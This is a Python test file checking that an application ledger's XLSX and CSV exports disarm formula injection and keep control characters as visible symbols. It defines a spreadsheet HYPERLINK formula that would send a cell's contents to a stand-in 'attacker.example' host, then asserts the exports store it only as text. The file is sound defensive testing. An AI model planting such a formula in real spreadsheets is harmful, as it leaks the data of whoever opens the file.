"""Exports safe to open: a control character and a formula in an application's text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import update

from disclosure.db import transaction
from disclosure.models import Application
from tests.web.conftest import register

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"点击查看")'


def _hostile(client_for, engine) -> str:  # type: ignore[no-untyped-def]
    """One application whose applicant is a formula and whose content holds a vertical
    tab (a Word line break pasted). The content is set in the database, as rows stored
    before input was normalised still hold it."""
    number = register(client_for("clerk"), applicant=FORMULA, content="第一段")
    with transaction(engine) as s:
        s.execute(
            update(Application).where(Application.number == number)  # type: ignore[arg-type]
            .values(content="第一段\v第二段\x1b")
        )  # fmt: skip
    return number


def _xlsx_cells(data: bytes) -> list:  # type: ignore[type-arg]
    wb = load_workbook(io.BytesIO(data))
    try:
        return [c for row in wb.active.iter_rows() for c in row]
    finally:
        wb.close()


def _check_xlsx(data: bytes) -> None:
    cells = _xlsx_cells(data)
    (applicant,) = [c for c in cells if c.value == FORMULA]
    assert applicant.data_type == "s" and applicant.quotePrefix  # text, never a formula
    assert not any(c.data_type == "f" for c in cells)
    assert "第一段␋第二段␛" in [c.value for c in cells]


def test_ledger_with_a_control_character_and_a_formula_exports(  # type: ignore[no-untyped-def]
    client_for, engine, cli, tmp_path: Path
):
    _hostile(client_for, engine)
    r = client_for("clerk").get("/exports/ledger.xlsx")
    assert r.status_code == 200
    _check_xlsx(r.content)

    out = tmp_path / "ledger.xlsx"
    r = cli("export", "--out", str(out), "--today", "2026-03-05")
    assert r.exit_code == 0, r.stderr
    _check_xlsx(out.read_bytes())

    out_csv = tmp_path / "ledger.csv"
    r = cli("export", "--out", str(out_csv), "--today", "2026-03-05")
    assert r.exit_code == 0, r.stderr
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        values = [v for row in csv.reader(fh) for v in row]
    assert "'" + FORMULA in values and FORMULA not in values
    assert "第一段␋第二段␛" in values
    assert not any(v.startswith(("=", "+", "@")) for v in values)
